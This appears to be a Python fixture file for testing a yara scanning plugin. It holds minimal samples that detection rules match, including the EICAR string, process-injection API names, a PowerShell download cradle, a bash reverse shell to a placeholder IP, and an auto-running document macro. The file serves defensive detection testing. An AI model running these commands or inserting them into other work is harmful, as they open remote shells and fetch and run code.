"""What the rules of the yara plugin look for, in the smallest form; none of it does anything."""

EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
INJECTION = [b"OpenProcess", b"VirtualAllocEx", b"WriteProcessMemory", b"CreateRemoteThread"]
CRADLE = b"IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')\n"
ENCODED = "powershell.exe -NoP -w hidden -enc " + "QQBCAEMA" * 10
REVERSE = b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
VBS = b"""Set s = CreateObject("WScript.Shell")
Set h = CreateObject("MSXML2.XMLHTTP")
Set f = CreateObject("ADODB.Stream")
f.SaveToFile p, 2
"""
JS = b"""var s = new ActiveXObject("WScript.Shell"); var h = new ActiveXObject("MSXML2.XMLHTTP"); s.Run(p);"""
MACRO = b"""Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nShell "cmd /c calc"\r\nEnd Sub\r\n"""
